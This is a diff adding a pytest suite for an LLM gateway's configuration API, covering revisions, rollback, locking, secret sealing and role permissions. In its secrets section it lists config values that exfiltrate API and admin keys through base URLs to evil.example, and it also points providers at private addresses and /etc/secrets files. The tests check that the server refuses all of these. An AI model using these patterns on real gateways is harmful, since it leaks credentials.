@@ -1,0 +1,349 @@
+"""The configuration over HTTP: revisions, who may write what, and what a refused write leaves behind."""
+
+import json
+import threading
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from gateway import Answer, Gateway, eventually, serving
+from scripted import document, environ
+
+from dujiang.emulator.server import Emulator
+from dujiang.identity.keys import create_key
+from dujiang.storage.database import connect, sqlite_url
+
+CONFIG = "/api/v1/config"
+LITERAL = "sk-literal-0123456789"
+
+
+@pytest.fixture(scope="module")
+def server(emulator: Emulator, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
+    given = {**environ(emulator.url), "FREE_NAME": "sk-free", "DUJIANG_ENV_ALLOW": "FREE_NAME, OTHER"}
+    with serving(tmp_path_factory.mktemp("house"), document(), environ=given) as gateway:
+        yield gateway
+
+
+@pytest.fixture
+def house(server: Gateway) -> Gateway:
+    """The server, back at its first document."""
+    assert write(server, "POST", {}, None, path=f"{CONFIG}/revisions/1/rollback").status == 200
+    return server
+
+
+def write(gateway: Gateway, method: str, body: Any, revision: int | None, **more: Any) -> Answer:
+    headers = more.pop("headers", {}) | ({} if revision is None else {"If-Match": f'"{revision}"'})
+    return gateway.ask(more.pop("path", CONFIG), body, method=method, headers=headers, **more)
+
+
+def put(gateway: Gateway, body: Any, **more: Any) -> Answer:
+    return write(gateway, "PUT", body, revision_of(gateway), **more)
+
+
+def patch(gateway: Gateway, body: Any, **more: Any) -> Answer:
+    return write(gateway, "PATCH", body, revision_of(gateway), **more)
+
+
+def roll_back(gateway: Gateway, revision: int, **more: Any) -> Answer:
+    return write(gateway, "POST", {}, None, path=f"{CONFIG}/revisions/{revision}/rollback", **more)
+
+
+def revision_of(gateway: Gateway) -> int:
+    return int(gateway.ask(CONFIG).headers["etag"].strip('"'))
+
+
+def tree_of(gateway: Gateway) -> dict[str, Any]:
+    return gateway.ask(CONFIG).json
+
+
+def problems_of(answer: Answer) -> set[str]:
+    assert answer.status == 422, answer.json
+    return {problem["path"] for problem in answer.json["error"]["problems"]}
+
+
+def audited(gateway: Gateway) -> list[tuple[str, str]]:
+    return [(row["action"], row["outcome"]) for row in gateway.ask(f"{CONFIG}/audit").json["items"]]
+
+
+def model(target: str = "ok", **more: Any) -> dict[str, Any]:
+    return {"targets": [{"provider": "openai", "model": target}], **more}
+
+
+# revisions
+
+
+def test_the_document_comes_back_as_it_was_given(house: Gateway) -> None:
+    given = json.loads(document())
+    assert tree_of(house) == given
+    first = house.ask(f"{CONFIG}/revisions/1").json
+    assert (first["revision"], first["author"], first["document"]) == (1, "file", given)
+
+
+def test_a_patch_is_the_next_revision_and_serves_at_once(house: Gateway) -> None:
+    before = revision_of(house)
+    assert house.chat("fresh").status == 404
+    answer = patch(house, {"models": {"fresh": model()}}, headers={"X-Comment": "one more"})
+    assert (answer.status, answer.json["revision"]) == (200, before + 1)
+    assert "models.fresh" in {warning["path"] for warning in answer.json["warnings"]}
+    assert house.chat("fresh").status == 200
+    assert house.ask("/api/v1/health").json["config_revision"] == before + 1
+    (change,) = house.ask(f"{CONFIG}/diff?from={before}&to={before + 1}").json["changes"]
+    assert (change["path"], change["before"], change["after"]) == ("models.fresh", None, model())
+    newest = house.ask(f"{CONFIG}/revisions").json["items"][0]
+    assert (newest["comment"], newest["revision"]) == ("one more", before + 1)
+
+
+def test_a_removal_is_a_change_too(house: Gateway) -> None:
+    assert patch(house, {"models": {"slow": None}, "roles": {"guest": None}}).status == 200
+    assert "slow" not in tree_of(house)["models"]
+    assert house.chat("slow").status == 404
+
+
+def test_what_changes_nothing_makes_no_revision(house: Gateway) -> None:
+    before = revision_of(house)
+    assert put(house, json.loads(document())).json["revision"] == before
+    assert patch(house, {}).json["revision"] == before
+    assert revision_of(house) == before
+
+
+def test_a_number_of_another_type_is_another_document(house: Gateway) -> None:
+    before = revision_of(house)
+    assert patch(house, {"models": {"prompt": {"quality": 1}}}).json["revision"] == before + 1
+    assert patch(house, {"models": {"prompt": {"quality": True}}}).status == 422
+
+
+def test_yaml_in(house: Gateway) -> None:
+    body = b"models:\n  from-yaml:\n    targets: [{provider: openai, model: ok}]\n"
+    assert patch(house, body, headers={"Content-Type": "application/yaml"}).status == 200
+    assert house.chat("from-yaml").status == 200
+    assert patch(house, body, headers={"Content-Type": "text/html"}).status == 422
+
+
+def test_a_write_names_its_revision(house: Gateway) -> None:
+    now = revision_of(house)
+    assert write(house, "PATCH", {"models": {"a": model()}}, None).status == 428
+    stale = write(house, "PATCH", {"models": {"a": model()}}, now - 1 or 99)
+    assert (stale.status, stale.json["error"]["current"]) == (409, now)
+    assert write(house, "PATCH", {}, None, headers={"If-Match": "soon"}).status == 400
+    assert write(house, "PATCH", {}, None, headers={"If-Match": f'W/"{now}"'}).status == 200
+
+
+def test_a_rollback_is_a_revision(house: Gateway) -> None:
+    patch(house, {"models": {"fresh": model()}})
+    before = revision_of(house)
+    answer = roll_back(house, 1)
+    assert (answer.status, answer.json["revision"]) == (200, before + 1)
+    assert tree_of(house) == json.loads(document())
+    assert house.chat("fresh").status == 404
+    assert roll_back(house, 99_999).status == 404
+    assert write(house, "POST", {}, before, path=f"{CONFIG}/revisions/1/rollback").status == 409
+
+
+def test_a_bad_document_changes_nothing_and_names_every_path(house: Gateway) -> None:
+    before = revision_of(house)
+    bad = {
+        "models": {"bad": {"targets": [{"provider": "nobody", "model": "x"}]}, "worse": {"targets": []}},
+        "roles": {"guest": {"permissions": ["fly:away"]}},
+        "colour": {},
+    }
+    assert problems_of(patch(house, bad)) == {
+        "models.bad.targets[0].provider",
+        "models.worse.targets",
+        "roles.guest.permissions[0]",
+        "colour",
+    }
+    judged = house.ask(f"{CONFIG}/validate", {**json.loads(document()), "colour": {}}).json
+    assert (judged["valid"], [problem["path"] for problem in judged["problems"]]) == (False, ["colour"])
+    assert house.ask(f"{CONFIG}/validate", json.loads(document())).json["valid"] is True
+    assert revision_of(house) == before
+
+
+@pytest.mark.parametrize("body", [b"[]", b"{", b'{"models": 1}', b'{"a":1,"a":2}', b"\xff\xfe", b'{"a":"\\ud800"}'])
+def test_a_body_that_is_no_document(house: Gateway, body: bytes) -> None:
+    before = revision_of(house)
+    assert put(house, body).json["error"]["problems"]
+    assert revision_of(house) == before
+
+
+def test_eight_writers_lose_nothing(house: Gateway) -> None:
+    before = revision_of(house)
+
+    def write_some(writer: int) -> None:
+        for n in range(3):
+            while True:
+                answer = patch(house, {"models": {f"w{writer}-{n}": model()}})
+                if answer.status == 200:
+                    break
+                assert answer.status in {409, 429}, answer.json
+
+    threads = [threading.Thread(target=write_some, args=(writer,)) for writer in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(120)
+    assert revision_of(house) == before + 24
+    made = {name for name in tree_of(house)["models"] if name.startswith("w")}
+    assert made == {f"w{writer}-{n}" for writer in range(8) for n in range(3)}
+    for n in range(before, before + 24):
+        (change,) = house.ask(f"{CONFIG}/diff?from={n}&to={n + 1}").json["changes"]
+        assert change["before"] is None
+
+
+def test_pages_of_revisions(house: Gateway) -> None:
+    for n in range(4):
+        patch(house, {"models": {f"m{n}": model()}})
+    newest = revision_of(house)
+    first = house.ask(f"{CONFIG}/revisions?limit=3").json
+    rest = house.ask(f"{CONFIG}/revisions?limit=200&cursor={first['next_cursor']}").json
+    numbers = [item["revision"] for page in (first, rest) for item in page["items"]]
+    assert numbers == list(range(newest, max(newest - 203, 0), -1))
+
+
+# other processes
+
+
+def test_a_restart_serves_the_newest_revision(emulator: Emulator, tmp_path) -> None:
+    with serving(tmp_path, document(), environ=environ(emulator.url)) as gateway:
+        patch(gateway, {"models": {"fresh": model()}})
+    with serving(tmp_path, document(), environ=environ(emulator.url)) as gateway:
+        assert revision_of(gateway) == 2
+        assert gateway.chat("fresh").status == 200
+        assert "`--apply`" in "\n".join(gateway.output)
+    with serving(tmp_path, document(), environ=environ(emulator.url), arguments=("--apply",)) as gateway:
+        assert revision_of(gateway) == 3
+        assert gateway.chat("fresh").status == 404
+
+
+# secrets
+
+
+def test_a_literal_secret_is_sealed(house: Gateway) -> None:
+    assert patch(house, moved(house, credentials=[{"name": "own", "secret": LITERAL}])).status == 200
+    sealed = revision_of(house)
+    shown = tree_of(house)["providers"]["openai"]["credentials"]
+    assert shown == [{"name": "own", "secret": "***"}]
+    assert house.chat("prompt").status == 200
+    assert put(house, tree_of(house)).json["revision"] == sealed
+    stored = b"".join(path.read_bytes() for path in house.data_dir.rglob("*") if path.is_file())
+    assert LITERAL.encode() not in stored
+    for path in (f"{CONFIG}/revisions/{sealed}", f"{CONFIG}/diff?from=1&to={sealed}", f"{CONFIG}/audit"):
+        assert LITERAL not in house.ask(path).body.decode()
+
+
+def moved(house: Gateway, **changes: Any) -> dict[str, Any]:
+    return {"providers": {"openai": {**tree_of(house)["providers"]["openai"], **changes}}}
+
+
+THEFTS = {
+    "the server's own key in an address": {"base_url": "https://evil.example/${DUJIANG_SECRET_KEY}"},
+    "a variable in an address": {"base_url": "https://evil.example/${OPENAI_API_KEY}"},
+    "a known variable to another host": {"base_url": "https://evil.example/v1"},
+    "another variable": {"credentials": [{"name": "main", "secret": "${HOME}"}]},
+    "the administrator's key": {"credentials": [{"name": "x", "secret": "${DUJIANG_ADMIN_KEY}"}]},
+}
+
+
+@pytest.mark.parametrize("theft", THEFTS)
+def test_thefts_by_an_administrator_are_refused(house: Gateway, theft: str) -> None:
+    before = revision_of(house)
+    answer = patch(house, moved(house, **THEFTS[theft]))
+    assert all(path.startswith("providers.openai") for path in problems_of(answer))
+    assert revision_of(house) == before
+    assert audited(house)[0] == ("patch", "refused")
+
+
+def test_a_sealed_secret_does_not_move(house: Gateway) -> None:
+    patch(house, moved(house, credentials=[{"name": "own", "secret": LITERAL}]))
+    place = "providers.openai.credentials[0].secret"
+    masked = [{"name": "own", "secret": "***"}]
+    for changes in (
+        {"base_url": "https://evil.example/v1", "credentials": masked},
+        {"kind": "deepseek", "credentials": masked},
+        {"credentials": [{"name": "another", "secret": "***"}]},
+    ):
+        assert place in problems_of(patch(house, moved(house, **changes)))
+    assert patch(house, moved(house, credentials=masked, limits={"rpm": 5})).status == 200
+    assert house.chat("prompt").status == 200
+
+
+def test_an_allowed_variable_may_be_named(house: Gateway) -> None:
+    fresh = {"kind": "deepseek", "credentials": [{"name": "main", "secret": "${FREE_NAME}"}]}
+    assert patch(house, {"providers": {"deepseek": fresh}}).status == 200
+    assert tree_of(house)["providers"]["deepseek"]["credentials"][0]["secret"] == "${FREE_NAME}"
+
+
+def test_a_rollback_brings_a_reference_back_to_its_own_place(house: Gateway) -> None:
+    patch(house, moved(house, credentials=[{"name": "own", "secret": LITERAL}]))
+    assert roll_back(house, 1).status == 200
+    assert house.chat("prompt").status == 200
+
+
+# who may write what
+
+RANKS = {
+    "editor": {"permissions": ["config:read", "config:write", "models:write", "roles:write", "chat:call"]},
+    "reader": {"permissions": ["config:read"]},
+    "scribe": {"permissions": ["config:read", "config:write"]},
+}
+
+
+@pytest.fixture
+def ranks(house: Gateway, keys: dict[str, str]) -> dict[str, str]:
+    assert patch(house, {"roles": RANKS}).status == 200
+    return keys
+
+
+@pytest.fixture(scope="module")
+def keys(server: Gateway) -> dict[str, str]:
+    holders = {**{role: ("admin", role) for role in RANKS}, "elsewhere": ("lab", "admin")}
+    with connect(sqlite_url(server.data_dir)) as database:
+        made = {name: create_key(database, app=app, roles=[role])[1] for name, (app, role) in holders.items()}
+    eventually(lambda: all(server.ask("/v1/models", key=key).status != 401 for key in made.values()))
+    return made
+
+
+def test_each_section_needs_its_own_permission(house: Gateway, ranks: dict[str, str]) -> None:
+    for key, status in (("editor", 200), ("reader", 403), ("scribe", 403), ("elsewhere", 403)):
+        answer = patch(house, {"models": {f"by-{key}": model()}}, key=ranks[key])
+        assert answer.status == status, (key, answer.json)
+    assert patch(house, {"scenes": {}}, key=ranks["editor"]).status == 403
+    assert house.ask(CONFIG, key=ranks["elsewhere"]).status == 403
+
+
+@pytest.mark.parametrize("way", ["PUT", "PATCH", "rollback"])
+def test_nobody_grants_more_than_they_hold(house: Gateway, ranks: dict[str, str], way: str) -> None:
+    wide = {"editor": {"permissions": ["*"]}}
+    if way == "PUT":
+        tree = tree_of(house)
+        answer = put(house, {**tree, "roles": {**tree["roles"], **wide}}, key=ranks["editor"])
+    elif way == "PATCH":
+        answer = patch(house, {"roles": wide}, key=ranks["editor"])
+    else:
+        assert patch(house, {"roles": {"guest": {"permissions": ["keys:write"]}}}).status == 200
+        wider = revision_of(house)
+        assert patch(house, {"roles": {"guest": {"permissions": ["chat:call"]}}}).status == 200
+        answer = roll_back(house, wider, key=ranks["editor"])
+    assert (answer.status, answer.json["error"]["reason"]) == (403, "grant")
+    assert audited(house)[0][1] == "refused"
+
+
+def test_a_role_may_be_narrowed_by_those_who_do_not_hold_it(house: Gateway, ranks: dict[str, str]) -> None:
+    narrow = {"roles": {"guest": {"permissions": ["health:read"], "models": []}}}
+    assert patch(house, narrow).status == 200
+    assert patch(house, {"roles": {"guest": {"permissions": []}}}, key=ranks["editor"]).status == 200
+
+
+def test_the_private_network_needs_everything(house: Gateway, ranks: dict[str, str]) -> None:
+    inside = {"kind": "openai", "base_url": "http://10.0.0.1/v1", "allow_private_network": True}
+    refused = patch(house, {"providers": {"inside": inside}}, key=ranks["scribe"])
+    assert (refused.status, refused.json["error"]["param"]) == (403, "providers.inside.allow_private_network")
+    file = {"kind": "local", "model_file": "/etc/secrets/model.gguf"}
+    refused = patch(house, {"providers": {"file": file}}, key=ranks["scribe"])
+    assert (refused.status, refused.json["error"]["param"]) == (403, "providers.file.model_file")
+    assert patch(house, {"providers": {"inside": inside}}).status == 200
+
+
+def test_the_schema_describes_the_document(house: Gateway) -> None:
+    schema = house.ask(f"{CONFIG}/schema").json
+    assert schema["$schema"].endswith("2020-12/schema")
+    assert set(tree_of(house)) <= set(schema["$defs"]["Sections"]["properties"])
